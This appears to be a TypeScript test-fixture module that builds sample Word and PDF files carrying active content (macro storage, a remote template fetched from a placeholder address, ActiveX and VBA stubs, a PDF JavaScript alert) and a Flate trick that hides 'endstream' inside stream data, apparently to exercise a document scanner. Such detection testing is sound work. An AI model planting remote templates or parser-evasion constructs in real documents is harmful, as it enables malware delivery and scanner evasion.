// Documents that carry code (macros, ActiveX, remote templates, scripts,
// attachments), and honest ones shaped the same way, built in memory like
// scripts/lib/sample-documents.ts's and files.ts's.
import { deflateRawSync, deflateSync } from 'node:zlib';
import { docxBytes } from '../../scripts/lib/sample-documents.ts';
import { compoundFileBytes, type CompoundFileEntry } from './files.ts';

// ---------------------------------------------------------------------------
// Word 97–2003 (.doc)

/** A Word 97–2003 document: its WordDocument and table streams, its summary, and any `extra` entries. */
export function wordDocumentBytes(...extra: CompoundFileEntry[]): Buffer {
  return compoundFileBytes([{ name: 'WordDocument' }, { name: '1Table' }, { name: '\u0005SummaryInformation' }, ...extra]);
}

/** Where Word keeps a document's macros: Macros/VBA/_VBA_PROJECT and the modules beside it. */
export const macrosStorage: CompoundFileEntry = {
  name: 'Macros',
  children: [
    { name: 'VBA', children: [{ name: '_VBA_PROJECT' }, { name: 'dir' }, { name: 'ThisDocument' }] },
    { name: 'PROJECT' },
  ],
};

// ---------------------------------------------------------------------------
// Word .docx

const relationships = (...relationship: string[]) =>
  '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' +
  '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
  relationship.join('') +
  '</Relationships>';

const relationshipType = (type: string) => `http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}`;

/** A .docx whose document part has these relationships (word/_rels/document.xml.rels), deflated as Word stores it. */
export function docxWithDocumentRelationships(...relationship: string[]): Buffer {
  return docxBytes([{ name: 'word/_rels/document.xml.rels', content: relationships(...relationship), deflate: true }]);
}

export const hyperlink = (id: string, target: string) =>
  `<Relationship Id="${id}" Type="${relationshipType('hyperlink')}" Target="${target}" TargetMode="External"/>`;

/** A .docx that loads its template from a web server when opened: the classic remote template injection. */
export function docxWithRemoteTemplate(targetMode = 'External'): Buffer {
  return docxBytes([
    {
      name: 'word/settings.xml',
      content:
        '<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" ' +
        'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:attachedTemplate r:id="rId1"/></w:settings>',
    },
    {
      name: 'word/_rels/settings.xml.rels',
      content: relationships(
        `<Relationship Id="rId1" Type="${relationshipType('attachedTemplate')}" ` +
          `Target="http://203.0.113.7/cv-template.dotm" TargetMode="${targetMode}"/>`,
      ),
      deflate: true,
    },
  ]);
}

export const docxWithVbaProject = () => docxBytes([{ name: 'word/vbaProject.bin', content: Buffer.from('VBA project') }]);

export const docxWithActiveX = () =>
  docxBytes([{ name: 'word/activeX/activeX1.xml', content: '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>' }]);

// ---------------------------------------------------------------------------
// PDF

/**
 * A PDF of `objects` (numbered from 1; the first is the catalog), with an xref
 * table and a trailer holding `trailer` besides /Size and /Root.
 */
export function pdfOf(objects: ReadonlyArray<string | Buffer>, { trailer = '' } = {}): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  let length = parts[0]!.length;
  const offsets: number[] = [];
  objects.forEach((object, i) => {
    offsets.push(length);
    const part = Buffer.concat([Buffer.from(`${i + 1} 0 obj\n`, 'latin1'), Buffer.from(object as string | Buffer), Buffer.from('\nendobj\n', 'latin1')]);
    parts.push(part);
    length += part.length;
  });
  let xref = `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const offset of offsets) xref += `${String(offset).padStart(10, '0')} 00000 n \n`;
  xref += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailer}>>\nstartxref\n${length}\n%%EOF\n`;
  return Buffer.concat([...parts, Buffer.from(xref, 'latin1')]);
}

/** A one-page PDF whose catalog also holds `catalogEntries`, followed by `more` objects (numbered from 4). */
export function pdfWithCatalog(catalogEntries: string, ...more: Array<string | Buffer>): Buffer {
  return pdfOf([
    `<< /Type /Catalog /Pages 2 0 R ${catalogEntries} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>',
    ...more,
  ]);
}

/** A stream object: its dictionary (without /Length) and data. */
export function pdfStream(dictionary: string, data: Buffer | string, length: number | string = Buffer.byteLength(data)): Buffer {
  return Buffer.concat([
    Buffer.from(`<< ${dictionary} /Length ${length} >>\nstream\n`, 'latin1'),
    Buffer.from(data as string | Buffer),
    Buffer.from('\nendstream', 'latin1'),
  ]);
}

interface ObjectStreamOptions {
  filter?: string;
  encode?: (data: Buffer) => Buffer;
  /** More dictionary entries, e.g. /DecodeParms. */
  extra?: string;
}

/** An object stream (PDF 1.5) holding `objects` by number, Flate-compressed unless `encode` says otherwise. */
export function objectStream(
  objects: Record<number, string>,
  { filter = '/FlateDecode', encode = (data: Buffer): Buffer => deflateSync(data), extra = '' }: ObjectStreamOptions = {},
): Buffer {
  let body = '';
  const offsets: string[] = [];
  for (const [number, object] of Object.entries(objects)) {
    offsets.push(`${number} ${body.length}`);
    body += `${object}\n`;
  }
  const index = `${offsets.join(' ')}\n`;
  const data = encode(Buffer.from(index + body, 'latin1'));
  return pdfStream(`/Type /ObjStm /N ${offsets.length} /First ${index.length} /Filter ${filter} ${extra}`, data);
}

/** PNG "Up" prediction, one row of `columns` bytes at a time: what /Predictor 12 undoes. */
export function pngUpPredicted(data: Buffer, columns: number): Buffer {
  const rows: Buffer[] = [];
  for (let row = 0; row * columns < data.length; row++) {
    const current = Buffer.alloc(columns);
    data.copy(current, 0, row * columns, (row + 1) * columns);
    const previous = Buffer.alloc(columns);
    if (row > 0) data.copy(previous, 0, (row - 1) * columns, row * columns);
    rows.push(Buffer.from([2]), Buffer.from(current.map((byte, i) => (byte - previous[i]!) & 0xff)));
  }
  return Buffer.concat(rows);
}

/**
 * Flate data whose first `storedBytes` stand in it as they are (a stored block),
 * the rest compressed: text such as "endstream" can then appear in a stream's
 * data without the rest being readable there.
 */
export function deflateStoringStart(data: Buffer, storedBytes: number): Buffer {
  const stored = data.subarray(0, storedBytes);
  const blockHeader = Buffer.alloc(5); // not the final block, stored: length and its complement
  blockHeader.writeUInt16LE(stored.length, 1);
  blockHeader.writeUInt16LE(~stored.length & 0xffff, 3);
  let a = 1;
  let b = 0;
  for (const byte of data) {
    a = (a + byte) % 65521;
    b = (b + a) % 65521;
  }
  const adler32 = Buffer.alloc(4);
  adler32.writeUInt32BE(((b << 16) | a) >>> 0);
  return Buffer.concat([Buffer.from([0x78, 0x01]), blockHeader, stored, deflateRawSync(data.subarray(storedBytes)), adler32]);
}

export const javaScriptAction = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
